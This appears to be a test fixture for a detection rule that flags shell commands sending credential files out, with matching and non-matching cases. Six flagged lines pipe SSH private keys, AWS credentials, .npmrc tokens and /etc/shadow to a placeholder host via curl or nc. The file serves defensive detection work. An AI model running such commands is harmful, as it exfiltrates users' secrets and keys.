# ruleid: bash-credential-file-sent
curl -F "f=@$HOME/.ssh/id_rsa" https://c.example.net
# ruleid: bash-credential-file-sent
curl --data-binary @/root/.aws/credentials https://c.example.net
# ruleid: bash-credential-file-sent
cat ~/.ssh/id_ed25519 | base64 | curl -d @- https://c.example.net
# ruleid: bash-credential-file-sent
tar cz ~/.ssh | nc 203.0.113.9 4444
# ruleid: bash-credential-file-sent
curl -d "$(cat ~/.npmrc)" https://c.example.net
# ruleid: bash-credential-file-sent
nc 203.0.113.9 4444 < /etc/shadow

# ok: bash-credential-file-sent
curl -F "f=@report.txt" https://example.com
# ok: bash-credential-file-sent
curl --netrc-file ~/.netrc https://example.com
# ok: bash-credential-file-sent
cat ~/.ssh/id_ed25519.pub
# ok: bash-credential-file-sent
curl -o ~/.npmrc https://example.com/npmrc
# ok: bash-credential-file-sent
ssh -i ~/.ssh/id_ed25519 host < run.sh
